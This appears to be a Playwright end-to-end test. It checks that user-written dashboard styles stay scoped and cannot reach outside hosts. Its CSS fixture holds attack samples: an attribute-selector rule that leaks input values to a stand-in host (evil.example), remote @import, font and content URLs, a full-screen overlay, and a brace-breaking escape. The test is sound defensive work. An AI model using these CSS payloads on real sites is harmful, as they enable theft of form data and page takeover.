import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launch, visit } from './browser.ts'
import { type RunningServer, startProduct } from './server.ts'

let server: RunningServer
let browser: Browser
beforeAll(async () => {
  server = await startProduct()
  browser = await launch()
})
afterAll(async () => {
  await browser.close()
  await server.stop()
})

/** What a dashboard may say, and what is left out of it: covering the page, asking for values, and everything that fetches. */
const CSS = `
  .header-title { text-transform: uppercase }
  body { background-color: rgb(1, 2, 3) }
  @media (min-width: 300px) { .chart-slice { border-color: rgb(4, 5, 6) !important } }
  } nav, a { display: none !important } {
  .chart-slice { position: fixed; inset: 0; background-image: url(/health?css) }
  input[value^="a"] { background: url(//evil.example/a) }
  @import url("//evil.example/b.css");
  @font-face { font-family: leak; src: url(//evil.example/c) }
  .header-title::before { content: url(//evil.example/d) }
`

test('31: styles of a dashboard change the dashboard, and neither the rest of the page nor anything outside hears of them', async () => {
  const { page, context, problems } = await visit(browser, server)
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  await page.goto('/dashboard/list/')
  await page.locator('tbody a').first().click()
  await page.locator('article[data-chart-id]').first().waitFor()
  await page.getByRole('button', { name: 'More' }).first().click()
  await page.getByRole('menuitem', { name: 'Styles…' }).click()
  const editor = page.getByRole('dialog').locator('.cm-content')
  await editor.click()
  await page.keyboard.press('Control+a')
  await page.keyboard.insertText(CSS)
  const title = page.locator('.header-title').first()
  const style = (name: string): Promise<string> => title.evaluate((element, key) => getComputedStyle(element).getPropertyValue(key), name)
  // Seen while one writes
  await expect.poll(() => style('text-transform')).toBe('uppercase')
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click()
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  await page.reload()
  await title.waitFor()
  await expect.poll(() => style('text-transform')).toBe('uppercase')
  const card = page.locator('.chart-slice').first()
  expect(await card.evaluate((element) => [getComputedStyle(element).borderTopColor, getComputedStyle(element).position])).toEqual([
    'rgb(4, 5, 6)',
    expect.not.stringMatching('fixed'),
  ])
  expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).not.toBe('rgb(1, 2, 3)')
  expect(await page.locator('main.dashboard').evaluate((element) => getComputedStyle(element).backgroundColor)).toBe('rgb(1, 2, 3)')
  expect(await page.locator('nav').first().isVisible()).toBe(true)
  expect(asked.filter((url) => url.includes('evil') || url.includes('health'))).toEqual([])
  expect(problems).toEqual([])
  // Another page does not wear them
  await page.goto('/chart/list/')
  expect(await page.evaluate(() => document.adoptedStyleSheets.length)).toBe(0)
  await context.close()
})
